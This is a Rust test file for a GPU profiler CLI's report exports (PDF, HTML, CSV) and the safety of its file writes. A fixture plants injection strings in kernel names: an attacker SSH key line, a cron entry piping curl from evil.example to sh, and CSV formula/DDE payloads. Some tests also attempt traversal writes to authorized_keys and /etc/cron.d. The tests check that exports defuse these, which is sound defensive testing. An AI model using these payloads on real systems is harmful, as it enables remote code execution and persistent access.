//! The export domain through the real CLI: PDF and HTML reports of real
//! profiles (train_good, the two-GPU DDP export, a before/after pair) and of
//! the real H100 benchmark run imported into a store, and benchmark CSV.
//! PDFs are opened with poppler (pdftotext, pdftoppm, pdffonts, pdfimages):
//! these tests fail when poppler is missing under CI=true and skip locally.

use crate::common;
use crate::export_edit;
use crate::profile_common;

use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

fn run(home: &Path, args: &[&str]) -> (i32, Value, String) {
    let out = common::aisp(home)
        .args(["--format", "json"])
        .args(args)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout).to_string();
    (
        out.status.code().unwrap_or(-1),
        serde_json::from_str(&stdout).unwrap_or(Value::String(stdout)),
        String::from_utf8_lossy(&out.stderr).to_string(),
    )
}

fn ok(home: &Path, args: &[&str]) -> Value {
    let (code, v, err) = run(home, args);
    assert_eq!(code, 0, "aisp {args:?}: {v}\n{err}");
    v
}

/// Whether poppler's tools are here; under CI they must be.
fn poppler() -> bool {
    let have = ["pdftotext", "pdftoppm", "pdffonts", "pdfimages"]
        .iter()
        .all(|t| Command::new(t).arg("-v").output().is_ok());
    if !have {
        assert!(
            std::env::var("CI").as_deref() != Ok("true"),
            "poppler-utils is missing: .ci/run installs it with apt-get install -y poppler-utils"
        );
        eprintln!("skipping PDF checks: install poppler-utils (apt-get install -y poppler-utils)");
    }
    have
}

fn tool(name: &str, args: &[&str]) -> String {
    let out = Command::new(name).args(args).output().unwrap();
    assert!(
        out.status.success(),
        "{name} {args:?} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).to_string()
}

/// Text of a PDF with the line breaks of its layout folded to spaces.
fn pdf_text(pdf: &Path) -> String {
    let t = tool("pdftotext", &[pdf.to_str().unwrap(), "-"]);
    t.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// The decompressed content streams of a PDF.
fn content_streams(pdf: &Path) -> String {
    let bytes = std::fs::read(pdf).unwrap();
    let mut out = String::new();
    let mut at = 0;
    while let Some(i) = find(&bytes[at..], b"stream\n").map(|i| i + at) {
        let start = i + b"stream\n".len();
        let Some(end) = find(&bytes[start..], b"endstream").map(|e| e + start) else {
            break;
        };
        let mut dec = flate2::read::ZlibDecoder::new(&bytes[start..end]);
        let mut s = Vec::new();
        if dec.read_to_end(&mut s).is_ok() {
            out.push_str(&String::from_utf8_lossy(&s));
        }
        at = end + b"endstream".len();
    }
    out
}

fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    hay.windows(needle.len()).position(|w| w == needle)
}

/// The checks every PDF report passes: poppler reads its text and renders
/// every page, its font is embedded, it draws vector paths and holds no image.
fn check_pdf(pdf: &Path, pages: u64, dir: &Path) -> String {
    let bytes = std::fs::read(pdf).unwrap();
    assert!(bytes.starts_with(b"%PDF-"));
    let info = tool("pdfinfo", &[pdf.to_str().unwrap()]);
    assert!(
        info.contains(&format!("Pages:{:>10}", pages))
            || info.contains(&format!("Pages: {pages}"))
            || info.lines().any(|l| l.starts_with("Pages:")
                && l.split_whitespace().nth(1) == Some(&pages.to_string())),
        "{info}"
    );
    let prefix = dir.join("page");
    tool(
        "pdftoppm",
        &[
            "-r",
            "20",
            "-png",
            pdf.to_str().unwrap(),
            prefix.to_str().unwrap(),
        ],
    );
    let rendered = std::fs::read_dir(dir)
        .unwrap()
        .filter(|e| {
            let n = e.as_ref().unwrap().file_name();
            let n = n.to_string_lossy();
            n.starts_with("page") && n.ends_with(".png")
        })
        .count();
    assert_eq!(rendered as u64, pages, "pdftoppm renders every page");
    let fonts = tool("pdffonts", &[pdf.to_str().unwrap()]);
    assert!(fonts.contains("LiberationSans"), "{fonts}");
    for line in fonts.lines().skip(2) {
        assert!(line.contains(" yes "), "every font embedded: {line}");
    }
    let images = tool("pdfimages", &["-list", pdf.to_str().unwrap()]);
    assert_eq!(images.lines().count(), 2, "no image objects:\n{images}");
    let content = content_streams(pdf);
    let count = |op: &str| {
        regex::Regex::new(&format!(r"\d {op}\b"))
            .unwrap()
            .find_iter(&content)
            .count()
    };
    let (moves, lines) = (count("m"), count("l"));
    let paints = regex::Regex::new(r"(?m)^(f|S)$")
        .unwrap()
        .find_iter(&content)
        .count();
    assert!(
        moves > 50 && lines > 100 && paints > 50,
        "vector paths: {moves} moveto, {lines} lineto, {paints} fill/stroke"
    );
    assert!(!content.contains(" Do"), "no XObject (image) drawn");
    pdf_text(pdf)
}

fn profile_dir() -> PathBuf {
    profile_common::data_dir()
}

#[test]
fn profile_pdf_of_train_good_names_its_numbers() {
    let home = tempfile::tempdir().unwrap();
    let profile = profile_dir().join("train_good.sqlite");
    let out = home.path().join("train_good.pdf");
    let v = ok(
        home.path(),
        &[
            "export",
            "pdf",
            "--profile",
            profile.to_str().unwrap(),
            "--output",
            out.to_str().unwrap(),
        ],
    );
    assert_eq!(v["report"], "profile");
    let pages = v["pages"].as_u64().unwrap();
    assert!(pages >= 3, "{v}");
    assert_eq!(
        v["bytes"].as_u64().unwrap(),
        std::fs::metadata(&out).unwrap().len()
    );
    assert!(v["charts"].as_u64().unwrap() >= 5);
    // The numbers the report must carry, from the analyses themselves.
    let p = aisp_profile::open(&profile).unwrap();
    let scope = p.resolve(&Default::default()).unwrap();
    let u = aisp_profile::utilization::utilization(&p, &scope, 100, 50.0).unwrap();
    let steady = u.devices[0]
        .windows
        .iter()
        .find(|w| w.window.kind == aisp_profile::WindowKind::Steady)
        .unwrap()
        .busy_pct;
    let rules = aisp_profile::rules::run(&p, &scope).unwrap();
    let top = &rules.findings[0];
    assert_eq!(v["headline"], rules.verdict);
    if !poppler() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let text = check_pdf(&out, pages, dir.path());
    assert!(
        text.contains(&format!("steady busy {steady}%")),
        "steady busy {steady}% in:\n{text}"
    );
    assert!(text.contains(&top.title), "top finding `{}`", top.title);
    assert!(text.contains("Page 1 of") && text.contains(&format!("Page {pages} of {pages}")));
    assert!(text.contains("NVIDIA H200") && text.contains("aisp version"));
    // Never overwrite without overwrite.
    let (code, e, _) = run(
        home.path(),
        &[
            "export",
            "pdf",
            "--profile",
            profile.to_str().unwrap(),
            "--output",
            out.to_str().unwrap(),
        ],
    );
    assert_eq!(code, 1);
    assert_eq!(e["error"]["kind"], "invalid_input");
    ok(
        home.path(),
        &[
            "export",
            "pdf",
            "--profile",
            profile.to_str().unwrap(),
            "--output",
            out.to_str().unwrap(),
            "--overwrite",
        ],
    );
}

/// The charts a person reads at a glance: the step chart leaves the step ledger's warm-up out (and says
/// so), and the utilization chart shows the active part only.
#[test]
fn profile_report_charts_leave_out_warm_up_and_idle_ends() {
    let home = tempfile::tempdir().unwrap();
    let profile = profile_dir().join("train_good.sqlite");
    let out = home.path().join("train_good.html");
    ok(
        home.path(),
        &[
            "export",
            "html",
            "--profile",
            profile.to_str().unwrap(),
            "--output",
            out.to_str().unwrap(),
        ],
    );
    let html = std::fs::read_to_string(&out).unwrap();
    let p = aisp_profile::open(&profile).unwrap();
    let scope = p.resolve(&Default::default()).unwrap();
    let ledger = aisp_profile::ledger::build(&p, &scope, None).unwrap();
    let d = &ledger.devices[0];
    assert!(d.warmup_steps >= 1, "train_good has a warm-up step");
    let first = &d.steps[0].name;
    let note = html
        .split("Not in the chart: the warm-up step(s) ")
        .nth(1)
        .unwrap_or_else(|| panic!("the step chart names what it leaves out"));
    assert!(
        note.starts_with(first.as_str()),
        "{}",
        &note[..80.min(note.len())]
    );
    // The warm-up step's CPU time is not a point of the chart (its tooltip would carry it).
    let it = aisp_profile::iterations::iterations(&p, &scope, None, 10_000).unwrap();
    let warm = it.processes[0]
        .steps
        .iter()
        .find(|s| &s.name == first)
        .unwrap();
    let step_chart = html
        .split("Step time per step")
        .nth(1)
        .unwrap()
        .split("</svg>")
        .next()
        .unwrap();
    let warm_ms = aisp_report::chart::build::fmt_num(warm.cpu_ns as f64 / 1e6);
    assert!(
        !step_chart.contains(&format!("CPU step time: {warm_ms} at")),
        "the warm-up step is drawn"
    );
    // Utilization over time: the active part, said so when ends were cut.
    let u = aisp_profile::utilization::utilization(&p, &scope, 100, 50.0).unwrap();
    let chunks = &u.devices[0].chunk_busy_pct;
    if chunks.first() == Some(&0.0) || chunks.last() == Some(&0.0) {
        assert!(
            html.contains("The chart shows the active part"),
            "idle ends are cut"
        );
    }
}

/// Well-formedness of the inline SVGs: every element opened is closed, in order.
fn svg_balanced(svg: &str) -> bool {
    let re = regex::Regex::new(r"<(/?)([a-zA-Z]+)[^>]*?(/?)>").unwrap();
    let mut stack: Vec<String> = Vec::new();
    for c in re.captures_iter(svg) {
        let (close, name, selfclose) = (&c[1] == "/", c[2].to_string(), &c[3] == "/");
        if selfclose {
            continue;
        }
        if close {
            if stack.pop().as_deref() != Some(name.as_str()) {
                return false;
            }
        } else {
            stack.push(name);
        }
    }
    stack.is_empty()
}

#[test]
fn html_report_of_the_two_gpu_export_is_self_contained_with_svgs() {
    let home = tempfile::tempdir().unwrap();
    let ddp = profile_common::fixture("ddp.sqlite");
    let v = ok(
        home.path(),
        &["export", "html", "--profile", ddp.to_str().unwrap()],
    );
    let path = PathBuf::from(v["path"].as_str().unwrap());
    assert!(
        path.starts_with(home.path().join("reports")),
        "default under $AISP_HOME/reports: {path:?}"
    );
    let h = std::fs::read_to_string(&path).unwrap();
    assert!(h.starts_with("<!doctype html>") && h.trim_end().ends_with("</html>"));
    assert!(h.contains("prefers-color-scheme: dark") && h.contains("@media print"));
    let svgs: Vec<&str> = h
        .split("<svg ")
        .skip(1)
        .map(|s| &s[..s.find("</svg>").unwrap() + 6])
        .collect();
    assert_eq!(svgs.len() as u64, v["charts"].as_u64().unwrap());
    assert!(svgs.len() >= 5);
    for s in &svgs {
        assert!(svg_balanced(&format!("<svg {s}")), "well-formed SVG");
    }
    // Both devices have a strip, NCCL kernels are classed as communication.
    assert!(h.contains("GPU 0 stream") && h.contains("GPU 1 stream"));
    assert!(h.contains("communication"));
    assert!(!h.contains("<script") && !h.contains("src=\"http") && !h.contains("href=\"http"));
    // Exactly once: the SVG namespace is the only URL.
    assert_eq!(h.matches("http://").count(), svgs.len());
}

#[test]
fn before_after_pdf_of_two_captures() {
    let home = tempfile::tempdir().unwrap();
    // A planted problem and its fix (tests/data/planted): the report leads with the verdict and the
    // finding's predicted vs measured step.
    let before = profile_common::fixture("planted/copy_bound.sqlite");
    let after = profile_common::fixture("planted/copy_bound.fixed.sqlite");
    let out = home.path().join("cmp.pdf");
    let v = ok(
        home.path(),
        &[
            "export",
            "pdf",
            "--profile",
            before.to_str().unwrap(),
            "--compare-to",
            after.to_str().unwrap(),
            "--output",
            out.to_str().unwrap(),
        ],
    );
    assert_eq!(v["report"], "comparison");
    let b = aisp_profile::open(&before).unwrap();
    let a = aisp_profile::open(&after).unwrap();
    let c = aisp_profile::compare::compare(&b, &a, 12).unwrap();
    assert_eq!(v["headline"], c.summary);
    if !poppler() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let text = check_pdf(&out, v["pages"].as_u64().unwrap(), dir.path());
    assert!(
        text.contains(&c.verdict_reason),
        "verdict reason `{}` in:\n{text}",
        c.verdict_reason
    );
    assert_eq!(c.verdict, aisp_profile::compare::Verdict::Improved);
    for e in &c.evidence {
        let delta = format!("{:+.2}", e.change_pct);
        assert!(text.contains(&delta), "{:?} change {delta}", e.basis);
    }
    let p = c
        .predictions
        .iter()
        .find(|p| p.id == "exposed_copies")
        .unwrap();
    assert!(
        text.contains(&format!("{:+.1}", p.error_pct)),
        "prediction error of {p:?}"
    );
    // The verdict section comes before comparability and what moved.
    let (v, cmp, moved) = (
        text.find("IMPROVED").unwrap(),
        text.find("Comparability").unwrap(),
        text.find("What moved").unwrap(),
    );
    assert!(v < cmp && cmp < moved);
}

#[test]
fn benchmark_reports_and_csv_from_the_imported_h100_run() {
    let home = tempfile::tempdir().unwrap();
    let examples = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/benchmark");
    // Nothing stored yet: a clear not_found that says how to get history.
    let (code, e, _) = run(home.path(), &["export", "html"]);
    assert_eq!(code, 1);
    assert_eq!(e["error"]["kind"], "not_found");
    assert!(
        e["error"]["hint"]
            .as_str()
            .unwrap()
            .contains("benchmark import"),
        "the hint names the importer (in the CLI's spelling): {e}"
    );
    let imp = ok(
        home.path(),
        &["benchmark", "import", examples.to_str().unwrap()],
    );
    assert_eq!(imp["rows_added"], 47);
    let again = ok(
        home.path(),
        &["benchmark", "import", examples.to_str().unwrap()],
    );
    assert_eq!(again["rows_added"], 0);

    // The seed's spelling, declared in the registry.
    let pdf = home.path().join("bench.pdf");
    let v = ok(
        home.path(),
        &["bench", "report", "--output", pdf.to_str().unwrap()],
    );
    assert_eq!(v["report"], "benchmarks");
    let run_json: Value =
        serde_json::from_str(&std::fs::read_to_string(examples.join("h100/run.json")).unwrap())
            .unwrap();
    let best = run_json["speedups"]
        .as_array()
        .unwrap()
        .iter()
        .max_by(|a, b| {
            a["speedup"]
                .as_f64()
                .unwrap()
                .total_cmp(&b["speedup"].as_f64().unwrap())
        })
        .unwrap();
    let best_text = format!("{:.2}×", best["speedup"].as_f64().unwrap());
    assert!(
        v["headline"].as_str().unwrap().contains(&best_text),
        "{}",
        v["headline"]
    );
    let html = ok(home.path(), &["export", "html", "--target", "gemm"]);
    let h = std::fs::read_to_string(html["path"].as_str().unwrap()).unwrap();
    assert!(h.contains("Roofline of NVIDIA H100 80GB HBM3") && h.contains("cublaslt_fp8"));
    assert!(!h.contains("memory_coalescing"), "target filter applies");
    if poppler() {
        let dir = tempfile::tempdir().unwrap();
        let text = check_pdf(&pdf, v["pages"].as_u64().unwrap(), dir.path());
        // memory_coalescing's speedup and interval as the run measured them.
        assert!(text.contains("7.89× [7.89, 7.90]"), "{text}");
        assert!(text.contains("NVIDIA H100 80GB HBM3") && text.contains("driver 580.159.04"));
        assert!(text.contains("Roofline") && text.contains("Energy per run"));
    }

    // CSV through the seed's other spelling; round-trips against run.json.
    let csv_path = home.path().join("b.csv");
    let c = ok(
        home.path(),
        &[
            "bench",
            "export",
            "--output",
            csv_path.to_str().unwrap(),
            "--detailed",
        ],
    );
    assert_eq!(
        c["rows"], 47,
        "no samples in a saved answer: detailed adds none"
    );
    let raw = std::fs::read_to_string(&csv_path).unwrap();
    assert!(raw.contains("\r\n"), "RFC 4180 line ends");
    let mut rd = csv::Reader::from_path(&csv_path).unwrap();
    let headers: Vec<String> = rd.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(headers, aisp_report::CSV_COLUMNS);
    let rows: Vec<csv::StringRecord> = rd.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 47);
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    for r in run_json["results"].as_array().unwrap() {
        let row = rows
            .iter()
            .find(|x| {
                x[col("target")] == *r["target"].as_str().unwrap()
                    && x[col("variant")] == *r["variant"].as_str().unwrap()
            })
            .unwrap();
        if let Some(val) = r["value"].as_f64() {
            assert_eq!(
                row[col("value")].parse::<f64>().unwrap(),
                val,
                "exact round trip"
            );
        }
        assert_eq!(
            row[col("median_ms")].parse::<f64>().ok(),
            r["median_ms"].as_f64()
        );
        assert_eq!(row[col("repetitions")], r["repetitions"].to_string());
    }
    for s in run_json["speedups"].as_array().unwrap() {
        let row = rows
            .iter()
            .find(|x| {
                x[col("target")] == *s["target"].as_str().unwrap()
                    && x[col("variant")] == *s["variant"].as_str().unwrap()
            })
            .unwrap();
        assert_eq!(
            row[col("speedup_x")].parse::<f64>().unwrap(),
            s["speedup"].as_f64().unwrap()
        );
        assert_eq!(
            row[col("speedup_ci_low_x")].parse::<f64>().unwrap(),
            s["ci_low"].as_f64().unwrap()
        );
        assert_eq!(
            row[col("baseline_variant")],
            *s["baseline"].as_str().unwrap()
        );
    }
}

#[test]
fn export_commands_have_no_argument_called_format() {
    for tool in aisp::registry::tools() {
        if let Some(props) = tool
            .input_schema
            .get("properties")
            .and_then(Value::as_object)
        {
            assert!(
                !props.contains_key("format"),
                "{} takes `format`",
                tool.name
            );
        }
    }
    let home = tempfile::tempdir().unwrap();
    let (code, _, err) = run(home.path(), &["bench", "report", "--help"]);
    assert_eq!(code, 0, "{err}");
}

#[test]
fn cross_rank_report_of_a_per_rank_set_draws_the_rank_by_step_heat_map() {
    let home = tempfile::tempdir().unwrap();
    let set = tempfile::tempdir().unwrap();
    export_edit::split(&profile_common::fixture("ddp.sqlite"), set.path(), true).unwrap();
    let dir = set.path().display().to_string();
    let ranks = ok(home.path(), &["profile", "ranks", &dir, "--detail"]);
    let heat = &ranks["set"]["cross_rank"]["heat_map"];
    let v = ok(home.path(), &["export", "html", "--profile", &dir]);
    assert_eq!(v["report"], "ranks");
    let h = std::fs::read_to_string(v["path"].as_str().unwrap()).unwrap();
    assert!(h.contains("Cross-rank report"), "{}", &h[..400]);
    assert!(h.contains("GPU-projected step time per rank and step (ms)"));
    // Every cell carries its value: rank 1's step_5, from the same analysis through the CLI.
    let step = heat["steps"][5].as_str().unwrap();
    let ns = heat["values"][1][5].as_i64().unwrap();
    let cell = format!(
        "rank 1, {step}: {} ms",
        aisp_report::chart::build::fmt_num(ns as f64 / 1e6)
    );
    assert!(h.contains(&cell), "no heat-map cell {cell:?}");
    let cells = heat["ranks"].as_array().unwrap().len() * heat["steps"].as_array().unwrap().len();
    assert!(
        h.matches("<title>rank ").count() >= cells,
        "one tooltip per cell"
    );
    // The ranks table and the collective skew: the all-reduce instances of the DDP run.
    assert!(h.contains("waiting at collectives ms") && h.contains("AllReduce"));
    if poppler() {
        let v = ok(home.path(), &["export", "pdf", "--profile", &dir]);
        let text = pdf_text(Path::new(v["path"].as_str().unwrap()));
        assert!(text.contains("Cross-rank report"), "{text}");
        assert!(text.contains("Step time per rank"), "{text}");
    }
    // A set cannot be scoped like one export.
    let (code, err, _) = run(
        home.path(),
        &["export", "html", "--profile", &dir, "--device", "0"],
    );
    assert_ne!(code, 0, "{err}");
}

// ---------------------------------------------------------------------------------------------
// Writes: where (output roots over MCP/HTTP), how (no links, no overwrite, no debris), what (escaped)

fn mock() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/mock.sqlite")
}

/// A copy of `mock.sqlite` whose kernel names carry an SSH key line, a cron
/// line and a spreadsheet formula, as a crafted profile would.
fn crafted_profile(dir: &Path) -> PathBuf {
    let p = dir.join("crafted.sqlite");
    std::fs::copy(mock(), &p).unwrap();
    let conn = rusqlite::Connection::open(&p).unwrap();
    for (id, name) in [
        (
            139,
            "k\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEVILEVIL attacker@x\n",
        ),
        (138, "k\r\n* * * * * root curl evil.example|sh\r\n"),
        (142, "=HYPERLINK(\"http://evil.example\",\"x\")"),
        (141, "@SUM(1+1)*cmd|' /C calc'!A0"),
    ] {
        conn.execute(
            "UPDATE StringIds SET value = ?2 WHERE id = ?1",
            rusqlite::params![id, name],
        )
        .unwrap();
    }
    p
}

/// Lines of a file that a line-based reader (sshd, cron) would take as its own.
fn planted_lines(text: &str) -> Vec<String> {
    text.lines()
        .map(|l| l.trim_start_matches(['"', ' ', '\t']))
        .filter(|l| l.starts_with("ssh-ed25519") || l.starts_with("* * * * *"))
        .map(String::from)
        .collect()
}

#[test]
fn csv_and_html_exports_neutralize_line_breaks_and_formulas() {
    let home = tempfile::tempdir().unwrap();
    let crafted = crafted_profile(home.path());
    for report in ["kernels", "cuda_gpu_kern_sum"] {
        let out = home.path().join(format!("{report}.csv"));
        let v = ok(
            home.path(),
            &[
                "profile",
                "export",
                crafted.to_str().unwrap(),
                "--kind",
                "csv",
                "--report",
                report,
                "--output",
                out.to_str().unwrap(),
            ],
        );
        assert!(v["records"].as_u64().unwrap() >= 2, "{v}");
        let text = std::fs::read_to_string(&out).unwrap();
        assert_eq!(
            planted_lines(&text),
            Vec::<String>::new(),
            "{report}:\n{text}"
        );
        // Still one record per kernel: quoting keeps fields whole, line breaks shown as ⏎.
        let mut rd = csv::Reader::from_path(&out).unwrap();
        let names: Vec<String> = rd
            .records()
            .map(|r| {
                r.unwrap()
                    .iter()
                    .map(String::from)
                    .collect::<Vec<_>>()
                    .join("|")
            })
            .collect();
        assert!(
            names.iter().any(|r| r.contains("k⏎ssh-ed25519")),
            "{report}: {names:?}"
        );
        // Formula starts are defused (OWASP): `=`, `@`, `+`, `-` get a leading quote.
        assert!(
            names.iter().any(|r| r.contains("'=HYPERLINK")),
            "{report}: {names:?}"
        );
        assert!(!text.contains("\n=HYPERLINK") && !text.contains(",=HYPERLINK"));
        for line in text.lines() {
            for field in line.split(',') {
                let f = field.trim_start_matches('"');
                assert!(
                    !(f.starts_with('=') || f.starts_with('@')),
                    "{report}: formula field {field:?} in {line:?}"
                );
            }
        }
    }
    let html = home.path().join("r.html");
    ok(
        home.path(),
        &[
            "export",
            "html",
            "--profile",
            crafted.to_str().unwrap(),
            "--output",
            html.to_str().unwrap(),
        ],
    );
    let text = std::fs::read_to_string(&html).unwrap();
    assert!(text.contains("ssh-ed25519"), "the name is shown");
    assert_eq!(planted_lines(&text), Vec::<String>::new());
}

async fn post(server: &common::HttpServer, path: &str, body: Value) -> (u16, Value) {
    let r = reqwest::Client::new()
        .post(server.url(path))
        .json(&body)
        .send()
        .await
        .unwrap();
    let code = r.status().as_u16();
    (code, r.json().await.unwrap_or(Value::Null))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn over_http_files_are_written_only_under_the_output_roots() {
    let outside = tempfile::tempdir().unwrap();
    let extra = tempfile::tempdir().unwrap();
    let server = common::HttpServer::start(
        &[],
        &[("AISP_OUTPUT_ROOTS", extra.path().to_str().unwrap())],
    );
    let mock = mock().display().to_string();
    let home = server.home.path().to_path_buf();
    let exports = home.join("exports");
    std::fs::create_dir_all(home.join("sub")).unwrap();
    let refused = [
        outside.path().join("authorized_keys").display().to_string(),
        "../../authorized_keys".to_string(),
        format!("{}/../x.csv", exports.display()),
        home.join("config.toml").display().to_string(),
        "/etc/cron.d/aisp".to_string(),
    ];
    for output in &refused {
        for (route, args) in [
            (
                "/api/profile/export",
                json_args(&[("path", &mock), ("kind", "csv"), ("output", output)]),
            ),
            (
                "/api/export/html",
                json_args(&[("profile", &mock), ("output", output)]),
            ),
        ] {
            let (code, v) = post(&server, route, args).await;
            assert_eq!(code, 400, "{route} {output}: {v}");
            let hint = v["error"]["hint"].as_str().unwrap_or("");
            assert!(
                hint.contains("AISP_OUTPUT_ROOTS") || hint.contains("output root"),
                "{route} {output}: {v}"
            );
        }
    }
    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 0);
    assert!(!home.join("config.toml").exists() && !home.join("authorized_keys").exists());
    for (route, arg) in [
        ("/api/profile/flame", "output_dir"),
        ("/api/profile/ranks", "write_digests"),
    ] {
        let args = json_args(&[("path", &mock), (arg, outside.path().to_str().unwrap())]);
        let (code, v) = post(&server, route, args).await;
        assert_eq!(code, 400, "{route}: {v}");
    }
    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 0);

    // Relative paths land under $AISP_HOME/exports; a configured root takes absolute paths.
    let (code, v) = post(
        &server,
        "/api/profile/export",
        json_args(&[("path", &mock), ("kind", "csv"), ("output", "sub/k.csv")]),
    )
    .await;
    assert_eq!(code, 200, "{v}");
    assert!(exports.join("sub/k.csv").is_file(), "{v}");
    let in_extra = extra.path().join("r.html").display().to_string();
    let (code, v) = post(
        &server,
        "/api/export/html",
        json_args(&[("profile", &mock), ("output", &in_extra)]),
    )
    .await;
    assert_eq!(code, 200, "{v}");
    assert!(extra.path().join("r.html").is_file());
    // A link inside a root that points out of it is not followed.
    std::os::unix::fs::symlink(outside.path(), exports.join("out")).unwrap();
    let (code, v) = post(
        &server,
        "/api/profile/export",
        json_args(&[("path", &mock), ("kind", "csv"), ("output", "out/k.csv")]),
    )
    .await;
    assert_eq!(code, 400, "{v}");
    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 0);
}

fn json_args(pairs: &[(&str, &str)]) -> Value {
    Value::Object(
        pairs
            .iter()
            .map(|(k, v)| (k.to_string(), Value::String(v.to_string())))
            .collect(),
    )
}

fn entries(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

#[test]
fn writes_never_follow_links_nor_replace_files_unasked() {
    let home = tempfile::tempdir().unwrap();
    let dir = home.path().join("out");
    std::fs::create_dir_all(&dir).unwrap();
    let victim = home.path().join("victim.txt");
    std::fs::write(&victim, "keep me").unwrap();
    let mock = mock().display().to_string();

    // A link at the final name, to an existing file: refused, with or without overwrite.
    let link = dir.join("trace.json");
    std::os::unix::fs::symlink(&victim, &link).unwrap();
    for extra in [&[][..], &["--overwrite"][..]] {
        let mut args = vec![
            "profile",
            "export",
            &mock,
            "--kind",
            "perfetto",
            "--output",
            link.to_str().unwrap(),
        ];
        args.extend_from_slice(extra);
        let (code, v, _) = run(home.path(), &args);
        assert_eq!(code, 1, "{extra:?}: {v}");
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep me");
    }
    for (kind, ext) in [("html", "html"), ("pdf", "pdf")] {
        let l = dir.join(format!("r.{ext}"));
        std::os::unix::fs::symlink(&victim, &l).unwrap();
        let (code, v, _) = run(
            home.path(),
            &[
                "export",
                kind,
                "--profile",
                &mock,
                "--output",
                l.to_str().unwrap(),
                "--overwrite",
            ],
        );
        assert_eq!(code, 1, "{kind}: {v}");
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep me");
    }
    // A dangling link: its target is not created elsewhere.
    let elsewhere = home.path().join("elsewhere.csv");
    let dangling = dir.join("k.csv");
    std::os::unix::fs::symlink(&elsewhere, &dangling).unwrap();
    let (code, v, _) = run(
        home.path(),
        &[
            "profile",
            "export",
            &mock,
            "--kind",
            "csv",
            "--output",
            dangling.to_str().unwrap(),
        ],
    );
    assert_eq!(code, 1, "{v}");
    assert!(
        !elsewhere.exists(),
        "the dangling link's target was created"
    );

    // Flame graphs and digests do not replace files unless asked.
    let flame_dir = home.path().join("flame");
    std::fs::create_dir_all(&flame_dir).unwrap();
    let trace = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data/capture/flame_stacks.kineto.json.xz");
    std::fs::write(flame_dir.join("flame_stacks.kineto.svg"), "mine").unwrap();
    std::fs::write(flame_dir.join("flame_stacks.kineto.folded"), "mine").unwrap();
    let (code, v, _) = run(
        home.path(),
        &[
            "profile",
            "flame",
            trace.to_str().unwrap(),
            "--output-dir",
            flame_dir.to_str().unwrap(),
        ],
    );
    assert_eq!(code, 1, "{v}");
    assert_eq!(
        std::fs::read_to_string(flame_dir.join("flame_stacks.kineto.svg")).unwrap(),
        "mine"
    );
    assert_eq!(
        std::fs::read_to_string(flame_dir.join("flame_stacks.kineto.folded")).unwrap(),
        "mine"
    );
    let digests = home.path().join("digests");
    let digest_args = [
        "profile",
        "ranks",
        &mock,
        "--digest-only",
        "--write-digests",
        digests.to_str().unwrap(),
    ];
    let d = ok(home.path(), &digest_args);
    let written = PathBuf::from(d["digests_written"][0].as_str().unwrap());
    let ranks = written.join("ranks.parquet");
    let before = std::fs::read(&ranks).unwrap();
    std::fs::write(&ranks, b"mine").unwrap();
    let (code, v, _) = run(home.path(), &digest_args);
    assert_eq!(code, 1, "{v}");
    assert_eq!(std::fs::read(&ranks).unwrap(), b"mine");
    assert!(!before.is_empty());
    let left = entries(&dir);
    assert!(left.iter().all(|n| !n.contains("tmp")), "debris: {left:?}");
}

#[test]
fn a_full_disk_leaves_neither_debris_nor_a_truncated_file() {
    use std::os::unix::process::CommandExt;
    let home = tempfile::tempdir().unwrap();
    let dir = home.path().join("out");
    std::fs::create_dir_all(&dir).unwrap();
    let train = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/train_good.sqlite");
    let out = dir.join("t.json");
    let attempt = || {
        let mut cmd = common::aisp(home.path());
        cmd.args(["--format", "json", "profile", "export"])
            .arg(&train)
            .args(["--kind", "perfetto", "--output"])
            .arg(&out);
        // SAFETY: only async-signal-safe calls between fork and exec.
        unsafe {
            cmd.pre_exec(|| {
                // A 1 MiB file-size limit stands in for a full disk (EFBIG instead of ENOSPC);
                // the 3.6 MB export cannot be written.
                let lim = libc::rlimit {
                    rlim_cur: 1 << 20,
                    rlim_max: 1 << 20,
                };
                libc::setrlimit(libc::RLIMIT_FSIZE, &lim);
                libc::signal(libc::SIGXFSZ, libc::SIG_IGN);
                Ok(())
            });
        }
        cmd.output().unwrap()
    };
    let first = attempt();
    assert_eq!(
        first.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&first.stdout)
    );
    assert_eq!(entries(&dir), Vec::<String>::new(), "nothing left behind");
    // A retry (space freed) is not refused as "exists".
    let v = ok(
        home.path(),
        &[
            "profile",
            "export",
            train.to_str().unwrap(),
            "--kind",
            "perfetto",
            "--output",
            out.to_str().unwrap(),
        ],
    );
    assert!(v["bytes"].as_u64().unwrap() > 1 << 20);
    assert_eq!(entries(&dir), vec!["t.json"]);
}
